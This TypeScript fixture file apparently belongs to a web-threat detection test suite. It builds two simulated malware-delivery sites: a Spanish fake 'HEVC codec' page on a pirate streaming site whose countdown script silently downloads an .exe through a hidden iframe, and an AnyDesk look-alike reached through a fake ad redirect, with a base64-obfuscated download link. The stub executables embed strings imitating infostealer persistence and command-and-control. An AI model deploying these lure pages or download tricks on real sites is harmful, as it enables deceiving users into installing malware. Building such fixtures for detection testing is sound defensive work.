import { htmlRoute, redirectRoute, type Entry } from '../entry.js';
import { fileRoute, jsRoute, pe, pngRoute, zip } from '../parts/e-bin.js';

// ---------- Spanish: "install the video codec" on a streaming site, auto-download after countdown ----------
const cdHost = 'ver.peliculas-estreno-online.net';
const cdPage = `<!DOCTYPE html>
<html lang="es">
<head>
<meta charset="utf-8">
<meta name="viewport" content="width=device-width,initial-scale=1">
<title>Ver Mufasa: El Rey León (2024) Online Latino HD – PelisEstreno</title>
<style>
body{margin:0;background:#0e1116;color:#cfd6e0;font-family:Roboto,Arial,sans-serif}
.top{background:#161b22;padding:12px 20px;display:flex;align-items:center;gap:18px}.top b{color:#ffb400;font-size:22px}.top input{margin-left:auto;padding:7px 12px;border-radius:16px;border:0;background:#222a35;color:#ddd}
.v{max-width:980px;margin:20px auto;aspect-ratio:16/9;background:#000;position:relative;display:flex;align-items:center;justify-content:center}
.msg{background:#1d232c;border:1px solid #343e4c;border-radius:8px;padding:22px;max-width:480px;text-align:center}
.msg h3{margin-top:0;color:#fff}.msg .c{font-size:13px;color:#8d99aa}
.msg a{display:inline-block;margin-top:12px;background:#ffb400;color:#111;padding:11px 22px;border-radius:6px;font-weight:700;text-decoration:none}
.bar{height:6px;background:#2a323d;border-radius:3px;margin:12px 0;overflow:hidden}.bar i{display:block;height:100%;width:0;background:#ffb400;transition:width 1s linear}
.det{max-width:980px;margin:0 auto;padding:0 12px;font-size:14px;line-height:1.6}
.tags span{display:inline-block;background:#222a35;padding:3px 10px;border-radius:12px;margin:2px;font-size:12px}
</style>
</head>
<body>
<div class="top"><b>PelisEstreno</b><a href="#" style="color:#aaa">Películas</a><a href="#" style="color:#aaa">Series</a><a href="#" style="color:#aaa">Anime</a><input placeholder="Buscar…"></div>
<div class="v">
 <div class="msg">
  <h3>&#9888; No se puede reproducir el vídeo</h3>
  <p>Este vídeo está codificado en <b>HEVC (H.265) 4K</b>. Tu navegador no tiene instalado el códec necesario.</p>
  <p class="c">Error 0xc00d5212: falta el códec de vídeo. Instala <b>HEVC Video Extensions Player 2.1</b> (gratis) para continuar viendo.</p>
  <div class="bar"><i id="b"></i></div>
  <div class="c">La descarga comenzará automáticamente en <span id="s">5</span> s…</div>
  <a id="dl" href="/reproductor/descargar.php?f=HEVC_Codec_Player_Setup.exe">Descargar códec</a>
 </div>
</div>
<div class="det"><h2>Mufasa: El Rey León (2024)</h2><p>Narrada en flashbacks, cuenta la historia de cómo Mufasa, un cachorro huérfano, perdido y solo, conoce a un simpático león llamado Taka, heredero de un linaje real.</p><div class="tags"><span>Animación</span><span>Aventura</span><span>Latino</span><span>Castellano</span><span>Subtitulado</span></div></div>
<script src="/js/p.js"></script>
</body>
</html>`;
const cdJs = `(function(){var s=5,b=document.getElementById('b'),t=document.getElementById('s');
var iv=setInterval(function(){s--;t.textContent=s;b.style.width=((5-s)*20)+'%';if(s<=0){clearInterval(iv);var f=document.createElement('iframe');f.style.display='none';f.src=document.getElementById('dl').href;document.body.appendChild(f)}},1000);})();`;
const codecExe = pe({ x64: true, size: 8192, strings: ['HEVC Video Extensions Player', 'Setup', 'Inno Setup Setup Data (6.2.0)', 'https://cfg-loader.mediacodec-cdn.com/p/cfg.bin', 'CurrentVersion\\Run', 'MediaCodecSvc'] });

// ---------- AnyDesk look-alike, payload hosted on a file-sharing host ----------
const adHost = 'anydesk-download.pro';
const adPage = `<!DOCTYPE html>
<html lang="en">
<head>
<meta charset="utf-8">
<meta name="viewport" content="width=device-width,initial-scale=1">
<title>AnyDesk: The Fast Remote Desktop Application – Free Download</title>
<link rel="icon" href="/img/ad.png">
<style>
*{box-sizing:border-box}body{margin:0;font-family:"Open Sans",Arial,sans-serif;color:#333}
header{display:flex;align-items:center;padding:16px 40px;border-bottom:1px solid #eee}header .lg{font-size:24px;font-weight:700;color:#ef443b}header .lg:before{content:"";display:inline-block;width:22px;height:22px;background:#ef443b;transform:rotate(45deg);margin-right:10px;vertical-align:-3px}
header nav{margin-left:40px}header nav a{margin-right:22px;color:#444;text-decoration:none;font-size:15px}header .b{margin-left:auto;background:#ef443b;color:#fff;padding:9px 18px;border-radius:4px;text-decoration:none}
.hero{background:#f4f6f8;text-align:center;padding:70px 20px}.hero h1{font-size:42px;margin:0 0 14px;font-weight:600}.hero p{font-size:18px;color:#666;max-width:640px;margin:0 auto}
.hero a.dl{display:inline-block;margin-top:28px;background:#ef443b;color:#fff;padding:16px 40px;border-radius:4px;font-size:18px;text-decoration:none}
.hero small{display:block;margin-top:10px;color:#888}
.os{display:flex;justify-content:center;gap:26px;margin-top:22px;font-size:14px}.os a{color:#555}
.feat{display:grid;grid-template-columns:repeat(3,1fr);gap:30px;max-width:1000px;margin:50px auto;padding:0 20px}.feat h3{color:#ef443b}
footer{background:#2d2d2d;color:#aaa;font-size:12px;padding:26px 40px}
</style>
</head>
<body>
<header><span class="lg">AnyDesk</span><nav><a href="#">Solutions</a><a href="#">Pricing</a><a href="#">Downloads</a><a href="#">Support</a></nav><a class="b" href="#dl">Download Now</a></header>
<section class="hero">
 <h1>The Fast Remote Desktop Application</h1>
 <p>Connect to a computer remotely, be it from the other end of the office or halfway around the world. AnyDesk ensures secure and reliable remote desktop connections.</p>
 <a class="dl" id="dl" href="#">Download Now</a>
 <small>v9.0.4 for Windows &middot; Free for private use</small>
 <div class="os"><a href="#">Windows</a><a href="#">macOS</a><a href="#">Linux</a><a href="#">Android</a><a href="#">iOS</a></div>
</section>
<section class="feat"><div><h3>Fast</h3><p>Low latency and high frame rates thanks to our DeskRT codec.</p></div><div><h3>Secure</h3><p>Banking-standard TLS 1.2 encryption and RSA 2048 key exchange.</p></div><div><h3>Lean</h3><p>Just 5 MB – no installation or admin rights required.</p></div></section>
<footer>&copy; 2025 AnyDesk Software GmbH. All rights reserved. Imprint · Privacy · Terms</footer>
<script>
(function(){var l=['aHR0cHM6Ly9maWxlcy5zaGFyZWRyb3AtY2RuLmNvbS9kLzd4S3EyTS9BbnlEZXNrLnppcA=='];
var d=document.getElementById('dl');d.addEventListener('click',function(e){e.preventDefault();fetch('/api/s?ev=dl&os='+encodeURIComponent(navigator.platform));location.href=atob(l[0])});})();
</script>
</body>
</html>`;
const adExe = pe({ x64: false, size: 8192, strings: ['AnyDesk', 'philandro Software GmbH', 'AnyDesk.exe', 'Lumma', 'C:\\ProgramData\\AnyDeskUpd\\svc.exe', 'steamcommunity.com/profiles/76561199780418869'] });

export const entries: Entry[] = [
  {
    id: 'e-mal-codec-video-es',
    label: 'malware',
    kind: 'fake-codec',
    url: `https://${cdHost}/pelicula/mufasa-el-rey-leon-2024/`,
    body: cdPage,
    routes: {
      [`${cdHost}/js/p.js`]: jsRoute(cdJs),
      [`${cdHost}/reproductor/descargar.php`]: fileRoute(codecExe, 'application/x-msdownload', 'HEVC_Codec_Player_Setup.exe'),
    },
  },
  {
    id: 'e-mal-lookalike-anydesk',
    label: 'malware',
    kind: 'lookalike-download',
    url: 'https://www.googleadservices-click.com/pagead/aclk?sa=L&ai=anydesk',
    routes: {
      'www.googleadservices-click.com/pagead/aclk': redirectRoute(302, `https://${adHost}/en/downloads/windows`),
      [`${adHost}/en/downloads/windows`]: htmlRoute(adPage),
      [`${adHost}/api/s`]: { status: 204, headers: {}, body: '' },
      [`${adHost}/img/ad.png`]: pngRoute(239, 68, 59),
      'files.sharedrop-cdn.com/d/7xKq2M/AnyDesk.zip': fileRoute(zip([{ name: 'AnyDesk.exe', data: adExe }, { name: 'readme.txt', data: 'Run AnyDesk.exe as administrator.\r\n' }]), 'application/zip', 'AnyDesk.zip'),
    },
  },
];
